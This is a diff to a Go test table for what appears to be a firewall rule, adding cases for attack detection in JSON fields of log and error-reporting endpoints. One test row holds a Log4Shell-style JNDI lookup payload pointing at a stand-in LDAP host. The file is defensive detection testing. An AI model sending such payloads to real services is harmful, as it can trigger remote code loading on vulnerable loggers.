@@ -24,6 +24,8 @@ func TestTelemetry(t *testing.T) {
 		{"/api/v2/logs", "application/json", "ARGS:json.0.message", attack, true},
 		{"/api/v2/logs", "application/json", "ARGS:json.0.service", attack, false},
 		{"/api/9/store/", "application/json", "ARGS:json.exception.values.0.value", attack, true},
+		{"/api/9/store/", "application/json", "ARGS:json.extra.cmd.2", attack, true},
+		{"/api/9/store/", "application/json", "ARGS:json.release", attack, false},
 		{"/_bulk", "application/x-ndjson", "ARGS:json.1.message", attack, true},
 		{"/_bulk", "application/x-ndjson", "ARGS:json.1.message", "${jndi:ldap://198.51.100.7/a}", false}, // who stores it may look it up
 		{"/_bulk", "application/x-ndjson", "ARGS:json.0.index._index", attack, false},
